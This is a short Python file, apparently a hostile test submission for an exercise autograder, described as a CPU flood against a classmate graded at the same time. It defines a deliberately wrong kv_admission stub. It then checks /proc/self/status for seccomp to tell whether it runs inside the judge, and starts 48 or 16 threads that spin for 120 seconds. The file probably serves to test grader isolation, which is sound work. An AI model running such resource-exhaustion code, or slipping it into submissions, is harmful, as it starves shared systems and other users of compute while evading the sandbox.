# a CPU flood from the judge's child against the classmate graded at the same time on the other slot: the answer cell, run in the judge's child, starts 48 spinning threads (threads are allowed there) that keep spinning for 120 s while the judge calls a wrong kv_admission; in the kernel it does the same with 16 threads
# target: ex06_2
import threading
import time


def kv_admission(prompt_len, max_new_tokens, free_blocks, num_blocks, block_size,
                 admission="reserve"):
    return "wait"


def _spin(until):
    x = 0
    while time.time() < until:
        x += 1


with open("/proc/self/status") as _f:
    _judged = any(line.split() == ["Seccomp:", "2"] for line in _f)
_until = time.time() + 120
for _ in range(48 if _judged else 16):
    threading.Thread(target=_spin, args=(_until,), daemon=True).start()
